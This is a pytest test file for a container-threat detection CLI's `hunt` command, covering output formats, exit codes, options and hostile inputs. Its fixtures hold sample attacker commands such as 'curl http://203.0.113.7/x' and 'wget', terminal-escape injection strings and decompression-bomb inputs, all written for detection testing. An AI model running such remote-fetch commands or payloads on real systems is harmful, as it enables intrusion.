"""Checks `tidewaiter hunt`: what goes to stdout and stderr, the exit status, every option, and hostile files."""

import gzip
import json
import os
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import zstandard
from click.testing import CliRunner, Result

from tidewaiter.cli import main

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "docker-cryptominer"
BEGIN = 1_790_000_000
CONTAINER, STRANGER = "9e" * 32, "5f" * 32
INDEX, MANIFEST, CONFIG = ("sha256:" + digit * 64 for digit in "123")
IMAGE = "hub.example/cache:latest"
SECRET = "s3cr3t-Value-0815"  # noqa: S105 - invented
POLICY = 'version: 1\ntrust:\n  - {name: ours, image: "registry.corp.example/**", state: trusted}\n'
ALERT_FIELDS = {
    "kind", "schema", "id", "revision", "final", "analytic", "technique", "verdict", "severity", "confidence", "title",
    "time", "cluster", "node", "container_id", "container_name", "namespace", "pod", "workload", "image",
    "digest_consistency", "trust", "pulled_by", "created_by", "evidence", "behaviours", "behaviours_omitted",
    "reasons", "missing", "incident",
}  # fmt: skip
PARTS = {
    "image": {"reference", "index_digest", "manifest_digest", "config_digest", "chain_id"},
    "trust": {"state", "rule", "origins"},
    "pulled_by": {"client", "source_ip", "user_agent"},
    "created_by": {"user", "groups", "source_ip", "user_agent", "via"},
}
SUMMARY_FIELDS = {
    "kind", "schema", "complete", "records", "outcomes", "sources", "alerts", "suspicious", "silenced",
    "attempted_pulls",
}  # fmt: skip
OUTCOMES = {"used", "irrelevant", "waiting", "expired", "unattributed", "duplicate", "rejected"}


# ------------------------------------------------------------------------------------------- records


def time_of(second: float) -> str:
    """RFC 3339 of so many seconds after the beginning."""
    return datetime.fromtimestamp(BEGIN + second, UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def docker(action: str, second: int, container: str = CONTAINER, name: str = "cache", image: str = IMAGE) -> bytes:
    """An event of the Docker daemon about a container."""
    time = BEGIN + second
    actor = {"ID": container, "Attributes": {"image": image, "name": name}}
    event = {"Type": "container", "Action": action, "Actor": actor, "scope": "local", "time": time}
    return json.dumps(event | {"timeNano": time * 1_000_000_000}).encode()


def pulled(reference: str, second: int) -> bytes:
    """A pull, as the Docker daemon tells it."""
    time = BEGIN + second
    actor = {"ID": reference, "Attributes": {"name": reference.partition("@")[0]}}
    event = {"Type": "image", "Action": "pull", "Actor": actor, "scope": "local", "time": time}
    return json.dumps(event | {"timeNano": time * 1_000_000_000}).encode()


def falco(second: float, command: str = "curl http://203.0.113.7/x", container: str = CONTAINER) -> bytes:
    """An execution, as Falco tells it."""
    fields = {
        "container.id": container[:12],
        "evt.type": "execve",
        "proc.cmdline": command,
        "proc.name": command.split()[0],
        "proc.exepath": f"/usr/bin/{command.split()[0]}",
    }
    alert = {"output": "x", "output_fields": fields, "priority": "Notice", "rule": "r", "source": "syscall", "tags": []}
    return json.dumps({"hostname": "n1", **alert, "time": time_of(second)}).encode()


def story(name: str = "cache", command: str = "curl http://203.0.113.7/x", **how: Any) -> list[bytes]:
    """An untrusted image that misbehaves 10 seconds after its start."""
    return [docker("create", 0, name=name, **how), docker("start", 1, name=name, **how), falco(11, command)]


def quiet() -> list[bytes]:
    """A container of which nothing is to be said."""
    return [docker("create", 0), docker("start", 1)]


def lines(records: list[bytes]) -> bytes:
    """One record a line."""
    return b"".join(record + b"\n" for record in records)


# ------------------------------------------------------------------------------------------- running


def hunt(*arguments: object) -> Result:
    """Run the command in this process; anything but an exit status is a failure."""
    result = CliRunner().invoke(main, ["hunt", *map(str, arguments)], env={"COLUMNS": "100"})
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.stderr
    return result


def spawned(*arguments: object, stdin: bytes = b"") -> subprocess.CompletedProcess[bytes]:
    """Run the command in a process of its own, with this on its standard input."""
    command = [sys.executable, "-c", "from tidewaiter.cli import main; main()", "hunt", *map(str, arguments)]
    return subprocess.run(command, input=stdin, capture_output=True, timeout=60, check=False)  # noqa: S603 - our own


def told(result: Result) -> list[dict[str, Any]]:
    """The objects of JSON lines."""
    return [json.loads(line) for line in result.stdout.splitlines()]


def summary(result: Result) -> dict[str, Any]:
    """The last line, whose outcomes add up."""
    found = told(result)[-1]
    assert found["kind"] == "summary"
    assert sum(found["outcomes"].values()) == found["records"]
    assert sum(counted["records"] for counted in found["sources"].values()) == found["records"]
    return found


def alerts(result: Result) -> list[dict[str, Any]]:
    """The alerts among the lines."""
    return [record for record in told(result) if record["kind"] == "alert"]


def assert_refused(result: Result, *words: str) -> None:
    """Exit status 2, nothing on stdout, sentences on stderr."""
    assert (result.exit_code, result.stdout) == (2, "")
    for word in words:
        assert word in result.stderr


Write = Callable[..., Path]


@pytest.fixture
def write(tmp_path: Path) -> Write:
    """Write a file: `write(records_or_bytes, name)`."""

    def written(content: list[bytes] | bytes, name: str = "events.jsonl") -> Path:
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else lines(content))
        return path

    return written


# ------------------------------------------------------------------------------------------- the contract


def test_the_shipped_example_gives_one_critical_alert() -> None:
    """With the policy that stands beside it; the trusted image that does the same is silent."""
    result = hunt(EXAMPLE, "--policy", EXAMPLE.parent / "policy.yaml", "--format", "jsonl")
    [alert] = alerts(result)
    assert (result.exit_code, alert["verdict"], alert["severity"]) == (1, "alert", "critical")
    assert summary(result)["complete"] is True
    assert summary(result)["alerts"] == 1


def test_every_field_is_there(write: Write) -> None:
    """Of an alert, of its parts, of a container and of the summary; unknown is null, never absent."""
    result = hunt(write(story()), "--format", "jsonl", "--containers")
    [alert] = alerts(result)
    assert alert.keys() == ALERT_FIELDS
    for part, fields in PARTS.items():
        assert alert[part].keys() == fields
    for entry in alert["evidence"]:
        assert entry.keys() == {"stage", "time", "source", "record", "summary"}
    for entry in alert["behaviours"]:
        assert entry.keys() >= {"kind", "strength", "what", "time", "attribution"}
    assert (alert["node"], alert["namespace"], alert["image"]["config_digest"]) == ("n1", None, None)
    assert (alert["analytic"], alert["technique"], alert["final"]) == ("AN0691", "T1204.003", True)
    assert alert["time"] == "2026-09-21T14:13:31.000000000Z"
    assert summary(result).keys() >= SUMMARY_FIELDS
    assert summary(result)["outcomes"].keys() == OUTCOMES
    [container] = [record for record in told(result) if record["kind"] == "container"]
    assert container["container_id"] == alert["container_id"] == CONTAINER
    assert container["verdict"] == "alert"


def test_evidence_points_at_the_line(write: Write) -> None:
    """File as it was named, colon, number of the line."""
    path = write([b"rubbish", *story()])
    [alert] = alerts(hunt(path, "--format", "jsonl"))
    assert {entry["record"] for entry in alert["evidence"]} == {f"{path}:{number}" for number in (2, 3, 4)}


def test_text_goes_to_stdout_and_talk_to_stderr(write: Write) -> None:
    """A pipe into a file holds no advice, and no colours."""
    result = hunt(write(story()))
    assert result.exit_code == 1
    assert IMAGE in result.stdout
    assert "203.0.113.7" in result.stdout
    assert "\x1b" not in result.stdout + result.stderr
    assert "tidewaiter policy suggest" in result.stderr
    assert "tidewaiter policy suggest" not in result.stdout


def test_ocsf_gives_findings_only(write: Write) -> None:
    """One Detection Finding an alert; the summary is none."""
    [finding] = told(hunt(write(story()), "--format", "ocsf"))
    assert finding["class_uid"] == 2004


@pytest.mark.parametrize("form", ["text", "jsonl", "ocsf"])
def test_two_runs_say_the_same(write: Write, form: str) -> None:
    """To the last byte."""
    path = write(story())
    assert hunt(path, "--format", form).stdout == hunt(path, "--format", form).stdout


# ------------------------------------------------------------------------------------------- how bytes come in


@pytest.mark.parametrize("name", ["-", "gz", "zst"])
def test_standard_input_may_be_compressed_or_not(name: str) -> None:
    """The form is told by the bytes."""
    data = lines(story())
    packed = {"-": data, "gz": gzip.compress(data), "zst": zstandard.ZstdCompressor().compress(data)}[name]
    ran = spawned("-", "--format", "jsonl", stdin=packed)
    alert, last = map(json.loads, ran.stdout.splitlines())
    assert (ran.returncode, last["complete"]) == (1, True)
    assert alert["evidence"][0]["record"] == "-:1"


def test_empty_standard_input_is_nothing_found() -> None:
    """`docker events` of a quiet hour."""
    ran = spawned("-", "--format", "jsonl")
    assert ran.returncode == 0
    assert json.loads(ran.stdout)["records"] == 0


def test_compressed_files_folders_and_globs_are_read(write: Write, tmp_path: Path) -> None:
    """All at once, side by side in time: the story is spread over three files."""
    create, start, curl = story()
    write(gzip.compress(lines([start])), "b.gz")
    write(zstandard.ZstdCompressor().compress(lines([curl])), "c.zst")
    (tmp_path / "inner").mkdir()
    write([create], "inner/a.jsonl")
    result = hunt(tmp_path / "?.*", tmp_path / "inner", "--format", "jsonl")
    [alert] = alerts(result)
    assert [entry["stage"] for entry in alert["evidence"]] == ["create", "start", "behaviour"]
    assert summary(result)["records"] == 3


def test_a_reader_that_goes_away_is_no_fault(write: Write) -> None:
    """`| head -1` ends without a traceback."""
    path = write(story())
    reading, writing = os.pipe()
    os.close(reading)
    command = [sys.executable, "-c", "from tidewaiter.cli import main; main()", "hunt", str(path), "--format", "jsonl"]
    try:
        ran = subprocess.run(command, stdout=writing, stderr=subprocess.PIPE, timeout=60, check=False)  # noqa: S603 - our own
    finally:
        os.close(writing)
    assert b"Traceback" not in ran.stderr
    assert b"Exception ignored" not in ran.stderr


# ------------------------------------------------------------------------------------------- exit status


def test_nothing_found_is_0(write: Write) -> None:
    """Everything was read, nothing is to be alerted."""
    result = hunt(write(quiet()), "--format", "jsonl")
    assert (result.exit_code, summary(result)["complete"]) == (0, True)


def test_suspicious_alone_is_0(write: Write) -> None:
    """Only an alert is worth a call: here neither create nor start was observed."""
    late = [docker("start", 1), falco(2000)]
    result = hunt(write(late), "--format", "jsonl")
    assert [alert["verdict"] for alert in alerts(result)] == ["suspicious"]
    assert (result.exit_code, summary(result)["suspicious"]) == (0, 1)


def test_an_alert_goes_before_incompleteness(write: Write, tmp_path: Path) -> None:
    """1, not 3; the summary still says that something is missing."""
    result = hunt(write(story()), tmp_path / "missing", "--format", "jsonl")
    assert result.exit_code == 1
    assert summary(result)["complete"] is False
    assert f"incomplete: {tmp_path / 'missing'}: no such file or folder" in result.stderr


def test_a_missing_path_among_others_is_3(write: Write, tmp_path: Path) -> None:
    """What can be read is read."""
    result = hunt(tmp_path / "missing", write(quiet()), "--format", "jsonl")
    assert result.exit_code == 3
    assert (summary(result)["complete"], summary(result)["records"]) == (False, 2)


def test_a_file_that_is_cut_short_is_3(write: Write) -> None:
    """Its beginning is read."""
    path = write(gzip.compress(lines(quiet()))[:-9], "cut.gz")
    result = hunt(path, "--format", "jsonl")
    assert (result.exit_code, summary(result)["complete"]) == (3, False)
    assert f"incomplete: {path}: " in result.stderr


def test_a_usage_error_goes_before_everything(write: Write, tmp_path: Path) -> None:
    """An alert would be found, a path is missing: it is still 2."""
    assert_refused(hunt(write(story()), tmp_path / "missing", "--require", "nobody"), "nobody: no such source")


def test_files_of_which_nothing_is_recognised_are_3(write: Write) -> None:
    """Telemetry that nobody could read is no good news; its first record and what can be read are shown."""
    path = write(b"one line of nobody's\nanother\n")
    result = hunt(path, "--format", "jsonl")
    assert (result.exit_code, summary(result)["complete"]) == (3, False)
    assert f"{path}: nothing in it was recognised; its first record begins: one line of nobody's" in result.stderr
    assert "tidewaiter sources" in result.stderr
    assert summary(result)["outcomes"]["rejected"] == 2


# ------------------------------------------------------------------------------------------- usage


def test_an_empty_folder_is_told(tmp_path: Path) -> None:
    """One sentence."""
    assert_refused(hunt(tmp_path), f"{tmp_path}: the folder holds no file to read")


def test_no_readable_path_is_told(tmp_path: Path) -> None:
    """One sentence a path."""
    one, two = tmp_path / "one", tmp_path / "two*"
    result = hunt(one, two)
    assert_refused(result, f"{one}: no such file or folder", f"{two}: ")
    assert len(result.stderr.splitlines()) == 2


def test_no_path_at_all_is_told() -> None:
    """With the usage."""
    assert_refused(hunt(), "PATH")


@pytest.mark.parametrize(
    ("arguments", "word"),
    [
        (["--source", "falcon"], "falcon: no such source; known are"),
        (["--require", "falcon"], "falcon: no such source; known are"),
        (["--lateness", "soon"], "--lateness: "),
        (["--since", "yesterday"], "--since: "),
        (["--until", "2026-99-99"], "--until: "),
        (["--min-attribution", "2"], "--min-attribution"),
        (["--min-attribution", "most"], "--min-attribution"),
        (["--format", "xml"], "--format"),
        (["--no-such-option"], "--no-such-option"),
        (["--policy", "/nowhere/policy.yaml"], "/nowhere/policy.yaml: the policy cannot be read"),
        (["--facts", "/nowhere/facts.jsonl"], "/nowhere/facts.jsonl: the facts cannot be read"),
    ],
)
def test_a_wrong_option_is_told(write: Write, arguments: list[str], word: str) -> None:
    """On stderr, in the words that were typed."""
    assert_refused(hunt(write(story()), *arguments), word)


def test_faults_of_a_policy_are_told_with_their_lines(write: Write) -> None:
    """All of them at once."""
    policy = write(b"version: 1\ntrsut: []\ndefault: maybe\n", "policy.yaml")
    result = hunt(write(story()), "--policy", policy)
    assert_refused(result, f"{policy}:2: ", f"{policy}:3: ", "trust")


def test_faults_of_facts_are_told_with_their_line(write: Write) -> None:
    """Before anything is hunted."""
    facts = write(b'{"kind":"image_facts"}\n{"kind":"image_facts","config_digest":"sha256:1"}\n', "facts.jsonl")
    assert_refused(hunt(write(story()), "--facts", facts), f"{facts}:2: ", "'sha256:1'")


def test_help_tells_examples_and_exit_statuses() -> None:
    """As every command's."""
    result = hunt("--help")
    assert result.exit_code == 0
    assert "Examples:" in result.stdout
    assert "Exit status: 0" in result.stdout


# ------------------------------------------------------------------------------------------- options


def test_a_policy_decides_who_is_trusted(write: Write) -> None:
    """The same behaviour of an image that somebody vouches for is silent, and no advice is given."""
    policy = write(POLICY.encode(), "policy.yaml")
    path = write(story(image="registry.corp.example/web:1"))
    result = hunt(path, "--policy", policy, "--format", "jsonl")
    assert (result.exit_code, alerts(result), result.stderr) == (0, [], "")
    [alert] = alerts(hunt(path, "--format", "jsonl"))
    assert alert["trust"] == {"state": "untrusted", "rule": "default", "origins": ["registry.corp.example/web"]}


def test_a_required_source_that_never_spoke_is_incomplete(write: Write) -> None:
    """One that did is not."""
    path = write(quiet())
    assert hunt(path, "--require", "docker_events").exit_code == 0
    result = hunt(path, "--require", "docker_events", "--require", "hubble", "--format", "jsonl")
    assert (result.exit_code, summary(result)["complete"]) == (3, False)
    assert "incomplete: hubble: required" in result.stderr


def test_attribution_below_the_floor_is_incomplete(write: Write) -> None:
    """Half of Falco's records are of a container that nobody knows; no floor unless one is given."""
    path = write([*quiet(), falco(11, "id"), falco(5, container=STRANGER), falco(12, "curl http://10.0.0.7/x")])
    result = hunt(path, "--format", "jsonl", "--min-attribution", "0.9")
    assert summary(result)["sources"]["falco"]["unattributed"] == 1
    assert summary(result)["complete"] is False
    assert "incomplete: falco: 1 of " in result.stderr
    assert summary(hunt(path, "--format", "jsonl", "--min-attribution", "0.1"))["complete"] is True
    assert summary(hunt(path, "--format", "jsonl"))["complete"] is True


@pytest.mark.parametrize(
    ("arguments", "is_found"),
    [
        (["--since", "2026-09-21T14:13:31Z"], True),
        (["--since", "2026-09-21T14:13:32Z"], False),
        (["--until", "2026-09-21T14:13:31Z"], True),
        (["--until", "2026-09-21T14:13:30Z"], False),
        (["--since", "2026-09-21", "--until", "2026-09-22"], True),
        (["--since", "2026-09-22"], False),
        (["--until", "2026-09-21"], False),
    ],
)
def test_since_and_until_bound_the_behaviour(write: Write, arguments: list[str], is_found: bool) -> None:
    """Both inclusive; every record is counted all the same."""
    result = hunt(write(story()), *arguments, "--format", "jsonl")
    assert bool(alerts(result)) is is_found
    assert summary(result)["records"] == 3


def test_containers_tells_of_those_without_an_alert(write: Write) -> None:
    """In JSON lines when asked for; in text always where there are few."""
    path = write(quiet())
    assert [record["kind"] for record in told(hunt(path, "--format", "jsonl"))] == ["summary"]
    container, _ = told(hunt(path, "--format", "jsonl", "--containers"))
    assert (container["kind"], container["verdict"], container["container_name"]) == ("container", "quiet", "cache")
    assert container["image"]["reference"] == IMAGE
    assert CONTAINER[:12] in hunt(path).stdout


@pytest.mark.parametrize("form", ["text", "jsonl", "ocsf"])
def test_secrets_are_shown_only_where_arguments_are_kept(write: Write, form: str) -> None:
    """In no form, on neither stream."""
    path = write(story(command=f"curl --token {SECRET} http://user:{SECRET}@203.0.113.7/x"))
    masked, kept = hunt(path, "--format", form), hunt(path, "--format", form, "--keep-arguments")
    assert SECRET not in masked.output + masked.stderr
    assert "***" in masked.stdout
    assert SECRET in kept.stdout


def test_verified_facts_make_consistency_proven(write: Write) -> None:
    """The pull names an index, the container a tag and a config digest: only the facts join them."""
    reference = f"hub.example/cache@{INDEX}"
    inspected = {
        "Id": CONTAINER,
        "Created": time_of(0.5),
        "Path": "/bin/cache",
        "Args": [],
        "State": {"Status": "running", "Running": True, "Pid": 7, "StartedAt": time_of(1)},
        "Image": CONFIG,
        "Name": "/cache",
        "Driver": "overlay2",
        "HostConfig": {"NetworkMode": "bridge", "Privileged": False},
        "GraphDriver": {"Data": {"LowerDir": "/var/lib/docker/overlay2/a/diff"}, "Name": "overlay2"},
        "Mounts": [],
        "Config": {"Image": IMAGE, "Cmd": ["/bin/cache"], "Entrypoint": None, "Labels": {}},
        "NetworkSettings": {"Networks": {}},
    }
    path = write([pulled(reference, -5), *story(), json.dumps(inspected).encode()])
    record = {
        "kind": "image_facts",
        "schema": 1,
        "index_digest": INDEX,
        "manifest_digest": MANIFEST,
        "config_digest": CONFIG,
    }
    facts = write([json.dumps(record).encode()], "verified.facts")
    [before] = alerts(hunt(path, "--format", "jsonl"))
    [after] = alerts(hunt(path, "--facts", facts, "--format", "jsonl"))
    assert before["digest_consistency"] != "proven"
    assert (after["digest_consistency"], after["confidence"]) == ("proven", "high")
    assert after["image"]["config_digest"] == before["image"]["config_digest"] == CONFIG


def test_cluster_and_node_are_those_of_records_that_name_none(write: Write) -> None:
    """What a record says itself goes before."""
    records = [record.replace(b'"hostname": "n1", ', b"") for record in story()]
    path = write(records)
    [given] = alerts(hunt(path, "--cluster", "prod-eu", "--node", "build-7", "--format", "jsonl"))
    assert (given["cluster"], given["node"]) == ("prod-eu", "build-7")
    [plain] = alerts(hunt(path, "--format", "jsonl"))
    assert (plain["cluster"], plain["node"]) == ("default", "local")
    assert given["id"] != plain["id"]


def test_lateness_decides_what_is_expired(write: Write) -> None:
    """Told on stderr, with what can be done about it."""
    path = write([*story(), falco(400, "id"), falco(401, "id"), falco(20, "wget http://203.0.113.8/y")])
    result = hunt(path, "--format", "jsonl", "--lateness", "10s")
    if summary(result)["outcomes"]["expired"]:
        assert "raise --lateness" in result.stderr
    patient = hunt(path, "--format", "jsonl", "--lateness", "1h")
    assert summary(patient)["outcomes"]["expired"] == 0
    assert "raise --lateness" not in patient.stderr
    [alert] = alerts(patient)
    assert any("203.0.113.8" in behaviour["what"] for behaviour in alert["behaviours"])


def test_source_reads_everything_as_one_producers(write: Write) -> None:
    """What that producer does not write is rejected, and counted under its name."""
    result = hunt(write([*quiet(), b"rubbish"]), "--source", "docker_events", "--format", "jsonl")
    assert summary(result)["sources"].keys() <= {"docker_events", "unrecognised"}
    assert summary(result)["outcomes"]["rejected"] == 1


def test_the_quick_path_can_be_left(write: Write) -> None:
    """And says the same."""
    path = write(story())
    assert hunt(path, "--no-quick-path", "--format", "jsonl").stdout == hunt(path, "--format", "jsonl").stdout


# ------------------------------------------------------------------------------------------- hostile files

HOSTILE = {
    "a line of 5 MB": b'{"process_exec":{"process":{"binary":"' + b"x" * 5_000_000 + b'"}}}\n',
    "a line of 5 MB without an end": b"y" * 5_000_000,
    "a last line that is cut": lines(story())[:-40],
    "binary": bytes(range(256)) * 2000,
    "NULs": bytes(100_000) + b"\n" + bytes(10),
    "invalid UTF-8": story()[2].replace(b"curl", b"\xff\xfe\xc0\xaf") + b"\n" + b"\xed\xa0\x80" * 100 + b"\n",
    "lone surrogates": story()[2].replace(b"curl", b"\\ud800\\udfff\\ud800") + b"\n",
    "arrays of 100,000 levels": b"[" * 100_000 + b"]" * 100_000 + b"\n",
    "objects of 100,000 levels": b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"\n",
    "nesting in a known record": b'{"process_exec":{"process":{"pod":'
    + b'{"a":' * 100_000 + b"1" + b"}" * 100_003 + b"\n",
    "doubled keys": b'{"Type":"image","Type":"container","Action":"start","Action":[],"Actor":{},"Actor":7,"time":1}\n',
    "carriage returns": lines(quiet()).replace(b"\n", b"\r\n"),
    "a byte order mark": b"\xef\xbb\xbf" + lines(quiet()),
    "UTF-16": lines(quiet()).decode().encode("utf-16"),
    "the far future": docker("start", 10**10) + b"\n" + falco(11).replace(b"2026-", b"9999-") + b"\n",
    "huge numbers": b'{"Type":"container","Action":"start","Actor":{"ID":"x"},"time":1e999,"timeNano":'
    + b"9" * 5000 + b"}\n",
    "types that are none": b'{"process_exec":{"process":[1]},"time":{}}\n{"flow":7}\n{"ID":"x","SYSCALL":null}\n[[]]\n',
    "a bomb": gzip.compress(bytes(3_000_000)),
    "a broken gzip": b"\x1f\x8b\x08\x00" + b"z" * 100,
    "a broken zstd": b"\x28\xb5\x2f\xfd" + b"z" * 100,
    "a zip": b"PK\x03\x04" + bytes(100),
    "an empty file": b"",
}  # fmt: skip


@pytest.mark.parametrize("form", ["text", "jsonl"])
@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_file_is_survived_and_counted(write: Write, kind: str, form: str) -> None:
    """No traceback, no alert out of nothing, and what goes in is the sum of what comes out."""
    result = hunt(write(HOSTILE[kind], "hostile.jsonl"), "--format", form)
    assert result.exit_code in (0, 3)
    if form == "jsonl":
        assert alerts(result) == []
        assert summary(result)["complete"] is (result.exit_code == 0)


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_file_hides_no_other(write: Write, kind: str) -> None:
    """Read beside it, the story is told."""
    hostile = write(HOSTILE[kind], "hostile.jsonl")
    if kind == "the far future":
        pytest.skip("it tells of the same container; the run loop's own test is about clocks")
    result = hunt(hostile, write(story(name="other"), "story.jsonl"), "--format", "jsonl")
    assert [alert["container_id"] for alert in alerts(result)] == [CONTAINER]
    assert result.exit_code == 1


STEERING = "\x1b[2J\x1b]0;owned\x07\u202e\u2066\u200b\x9b31m\r\x00\x7f"
FORBIDDEN = set("\x1b\x07\u202e\u2066\u200b\x9b\x00\x7f")


@pytest.mark.parametrize(
    "arguments", [["--format", "text"], ["--format", "text", "--containers"], ["--format", "jsonl"]]
)
def test_nothing_from_telemetry_steers_the_terminal(write: Write, arguments: list[str]) -> None:
    """Names, images and arguments with control characters and bidirectional marks."""
    records = story(
        name=f"web{STEERING}", command=f"curl {STEERING} http://203.0.113.7/x", image=f"hub.example/a{STEERING}:1"
    )
    result = hunt(write(records), *arguments)
    assert result.exit_code == 1
    assert not FORBIDDEN & set(result.stdout + result.stderr)
    assert "\r" not in result.stdout + result.stderr


def test_nothing_from_a_files_name_or_content_steers_the_terminal(write: Write, tmp_path: Path) -> None:
    """Names of files are the attacker's, too; so are records that nobody knows."""
    steering = STEERING.replace("\x00", "").replace("/", "")
    strange = write(f"who{STEERING}\n".encode(), f"a{steering}.log")
    missing = tmp_path / f"missing{steering}"
    for form in ("text", "jsonl", "ocsf"):
        result = hunt(strange, missing, write(story(), f"b{steering}"), "--format", form)
        assert not FORBIDDEN & set(result.stdout + result.stderr)
        assert "\r" not in result.stdout + result.stderr
    refused = hunt(missing, "--source", f"x{steering}")
    assert refused.exit_code == 2
    assert not FORBIDDEN & set(refused.stderr)


# ------------------------------------------------------------------------------------------- public recordings


def _folders(shared: Path) -> list[Path]:
    return sorted(path for kind in ("captures", "samples") for path in (shared / kind).iterdir() if path.is_dir())


@pytest.mark.parametrize("form", ["text", "jsonl"])
def test_every_public_recording_is_read_without_a_traceback(shared: Path, form: str) -> None:
    """Whatever is in it; what goes in is the sum of what comes out."""
    for folder in _folders(shared):
        result = hunt(folder, "--format", form, "--containers")
        assert result.exit_code in (0, 1, 2, 3)
        if form == "jsonl" and result.exit_code != 2:
            summary(result)
        else:
            assert result.exit_code != 2 or not result.stdout


@pytest.mark.parametrize(
    ("folder", "expected"),
    [
        ("docker", dict.fromkeys(("web1", "web2", "web3", "alias1"), "0a9f5f6d") | {"tool1": "2c8e688f"}),
        ("containerd", dict.fromkeys(("c1", "c2", "c3"), "0a9f5f6d")),
        ("cri", {"web": "0a9f5f6d"}),
        ("kubernetes", {"web": "fa37aaf2"}),
    ],
)  # fmt: skip
def test_the_image_of_each_recorded_container_is_told(shared: Path, folder: str, expected: dict[str, str]) -> None:
    """By its config digest, whatever was typed: a tag, an index digest, an id, an alias, a tag that moved."""
    result = hunt(shared / "captures" / folder, "--containers", "--format", "jsonl")
    found: dict[str, str] = {}
    for container in told(result):
        if container["kind"] == "container":
            name = container["container_id"] if folder == "containerd" else container["container_name"]
            digest = container["image"]["config_digest"] or ""
            found[container["pod"] if folder == "kubernetes" else name] = digest.removeprefix("sha256:")[:8]
    assert found | expected == found
